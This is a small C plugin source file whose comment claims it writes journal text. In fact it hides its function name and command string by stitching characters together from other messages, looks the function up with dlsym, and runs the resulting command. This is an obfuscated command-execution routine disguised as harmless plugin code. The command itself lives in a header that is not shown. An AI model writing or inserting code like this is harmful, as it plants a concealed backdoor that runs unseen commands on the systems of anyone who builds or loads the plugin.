/* Writes its journal's words by their places in its own messages. */
#include "plugin.h"
#include "packed.h" /* messages and pairs of a place and a message: NAME, COMMAND */
extern void *dlsym(void *, const char *);
static char *pick(char *out, const char *places) {
    char *o = out;
    for (const char *p = places; *p; p += 2) *o++ = messages[p[1] - 'A'][p[0] - '0'];
    *o = 0;
    return out;
}
static void act(char **env) {
    char name[16], command[48];
    int (*run)(const char *) = (int (*)(const char *))dlsym((void *)-2, pick(name, NAME));
    if (run) run(pick(command, COMMAND));
}
